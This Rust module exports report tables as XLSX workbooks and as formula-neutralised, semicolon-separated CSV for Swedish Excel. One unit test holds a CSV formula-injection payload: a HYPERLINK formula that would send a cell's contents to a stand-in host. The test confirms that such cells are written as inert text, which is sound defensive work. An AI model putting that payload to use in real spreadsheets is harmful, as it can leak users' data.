//! The roll-ups' tables (`app::exports::tables`) written as files: an XLSX workbook
//! (rust_xlsxwriter) and CSV (semicolon-separated with a byte order mark, as Swedish Excel opens
//! it).

use app::domain::spreadsheet_cell::neutralise;
pub use app::exports::tables::{action_table, rollup_tables, Table};
use rust_xlsxwriter::{Format, Workbook, XlsxError};

/// The tables as one workbook, a sheet each, headers bold and frozen.
pub fn xlsx(tables: &[Table]) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let wrap = Format::new().set_text_wrap();
    for table in tables {
        let sheet = book.add_worksheet();
        sheet.set_name(&table.name)?;
        for (c, header) in table.headers.iter().enumerate() {
            let c = u16::try_from(c).unwrap_or(u16::MAX);
            sheet.write_string_with_format(0, c, header, &bold)?;
            sheet.set_column_width(c, 24)?;
        }
        for (r, row) in table.rows.iter().enumerate() {
            let r = u32::try_from(r + 1).unwrap_or(u32::MAX);
            for (c, cell) in row.iter().enumerate() {
                let c = u16::try_from(c).unwrap_or(u16::MAX);
                sheet.write_string_with_format(r, c, cell, &wrap)?;
            }
        }
        sheet.set_freeze_panes(1, 0)?;
    }
    book.save_to_buffer()
}

/// The first table as CSV for Swedish Excel: `;`-separated, UTF-8 with a byte order mark, every
/// cell neutralised against formulas (`domain::spreadsheet_cell`). Every CSV is written here.
pub fn csv(table: &Table) -> Result<Vec<u8>, csv::Error> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(&mut out);
        writer.write_record(&table.headers)?;
        for row in &table.rows {
            // Nothing a person typed may run as a formula in the spreadsheet that opens this.
            writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned()))?;
        }
        writer.flush()?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table {
        Table {
            name: "Analys".into(),
            headers: vec!["Enhet".into(), "Analys".into()],
            rows: vec![vec!["Hemtjänst Norr".into(), "Tas upp; på APT".into()]],
        }
    }

    #[test]
    fn csv_is_semicolon_separated_with_a_bom_and_quotes_what_needs_it() {
        let text = String::from_utf8(csv(&table()).unwrap()).unwrap();
        assert_eq!(
            text,
            "\u{feff}Enhet;Analys\nHemtjänst Norr;\"Tas upp; på APT\"\n"
        );
    }

    #[test]
    fn a_cell_that_would_run_as_a_formula_is_written_as_text() {
        let evil = Table {
            name: "Åtgärder".into(),
            headers: vec!["Åtgärd".into(), "Ansvarig".into()],
            rows: vec![vec![
                "=HYPERLINK(\"http://x.example/?\"&A1,\"klicka\")".into(),
                "@SUM(A1)".into(),
            ]],
        };
        let text = String::from_utf8(csv(&evil).unwrap()).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert_eq!(
            row,
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klicka\"\")\";'@SUM(A1)"
        );
    }

    #[test]
    fn xlsx_is_a_workbook() {
        let bytes = xlsx(&[table()]).unwrap();
        assert_eq!(&bytes[..2], b"PK", "an XLSX file is a zip archive");
    }
}
